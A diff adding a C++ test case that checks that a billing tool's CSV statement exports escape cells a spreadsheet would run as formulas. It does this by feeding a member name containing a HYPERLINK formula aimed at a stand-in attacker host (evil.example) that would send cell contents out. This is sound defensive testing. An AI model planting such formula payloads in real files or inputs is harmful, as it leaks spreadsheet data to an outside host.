@@ -290,3 +290,42 @@ TEST_CASE("labgatectl sessions held and review", "[billing_ctl]") {
   CHECK(std::count(actions.begin(), actions.end(), "session.review") == 2);
   require_ok(ctl({"audit", "verify"}));
 }
+
+TEST_CASE("labgatectl statements export: text that would start a formula reaches Excel as text",
+          "[billing_ctl][csv]") {
+  Ctl ctl;
+  seed(ctl);
+  // A member name that Excel would run as a formula (CSV injection), and an item name that
+  // starts with '+'. Both are staff input, so both are text cells.
+  const std::string evil = R"(=HYPERLINK("http://evil.example/?"&A1,"click"))";
+  require_ok(ctl({"members", "add", "--no", "M0002", "--name", evil, "--plan", "FULL"}));
+  require_ok(ctl({"members", "approve", "--no", "M0002"}));
+  require_ok(ctl({"prices", "set", "--code", "PLUS", "--name", "+Acrylic 5 mm", "--price", "700"}));
+  require_ok(ctl({"sell", "--member", "M0002", "--item", "PLUS", "--qty", "2"}));
+  ctl.exec("UPDATE sales SET at_ms = 1794279600000");  // 2026-11-10 12:00 in Tokyo
+
+  const auto out = ctl.dir().path() / "statements";
+  require_ok(ctl({"statements", "export", "--month", "2026-11", "--out", out.string()}));
+  const std::string cell = R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""click"")")csv";
+  const auto statement = labgate::testing::read_file(out / "statement-2026-11-M0002.csv");
+  INFO(statement);
+  CHECK(statement.rfind("\xEF\xBB\xBFmember_no,name,month,plan,time_zone,currency\r\nM0002," +
+                            cell + ",2026-11,",
+                        0) == 0);
+  CHECK(statement.find(",'+Acrylic 5 mm,2,") != std::string::npos);
+  // Amounts are number cells: the sale's 1400 yen is written as a bare number.
+  CHECK(statement.find("\r\ntotal,,1400\r\n") != std::string::npos);
+  CHECK(statement.find(",=HYPERLINK") == std::string::npos);
+  const auto summary = labgate::testing::read_file(out / "summary-2026-11.csv");
+  INFO(summary);
+  CHECK(summary.find("\r\nM0002," + cell + ",2026-11,") != std::string::npos);
+  CHECK(summary.find(",1400,0,0,\r\n") != std::string::npos);
+  // The JSON is not for spreadsheets: the name is kept exactly as entered.
+  const auto j = json::parse(labgate::testing::read_file(out / "statement-2026-11-M0002.json"));
+  CHECK(j["name"] == evil);
+  // `statements show --format csv` prints the same bytes as the exported file.
+  const auto shown =
+      ctl({"statements", "show", "--member", "M0002", "--month", "2026-11", "--format", "csv"});
+  require_ok(shown);
+  CHECK(shown.out == statement);
+}
